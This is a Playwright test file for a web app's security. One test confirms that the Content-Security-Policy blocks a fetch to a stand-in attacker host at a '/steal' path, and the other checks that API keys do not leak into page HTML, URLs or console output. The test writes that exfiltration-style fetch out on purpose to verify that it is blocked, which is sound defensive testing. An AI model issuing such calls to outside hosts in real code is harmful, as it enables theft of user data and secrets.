import { COLLEGES_KEY, SERVER_SWAP_KEY } from './environment.ts';
import { expect, test } from './fixtures.ts';

const routes = ['/', '/colleges', '/jobs', '/swap', '/upload', '/countries', '/bpi', '/coffee', '/settings'];

test('the Content-Security-Policy blocks a fetch to an origin that is not configured', async ({ page, pageProblems }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Overview' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`), { once: true }),
    );
    const fetched = await fetch('https://attacker.example/steal').then(
      () => 'fetched',
      (error: Error) => `blocked: ${error.name}`,
    );
    return { fetched, violation: await violation };
  });
  expect(outcome).toEqual({ fetched: 'blocked: TypeError', violation: 'connect-src https://attacker.example/steal' });
  // This test provoked the violation on purpose; the fixture must not count it.
  pageProblems.length = 0;
});

test('keys never appear in the app URL, the page text or the console', async ({ page }) => {
  test.setTimeout(90_000);
  const consoleText: string[] = [];
  page.on('console', (message) => consoleText.push(message.text()));
  for (const route of routes) {
    await page.goto(route);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForLoadState('networkidle');
    for (const summary of await page.getByText(/^Inspect requests/).all()) await summary.click();
    const html = await page.content();
    expect(html, `page HTML of ${route}`).not.toContain(COLLEGES_KEY);
    expect(html, `page HTML of ${route}`).not.toContain(SERVER_SWAP_KEY);
    expect(page.url()).not.toContain(COLLEGES_KEY);
  }
  const leaked = consoleText.filter((line) => line.includes(COLLEGES_KEY) || line.includes(SERVER_SWAP_KEY));
  expect(leaked).toEqual([]);
});
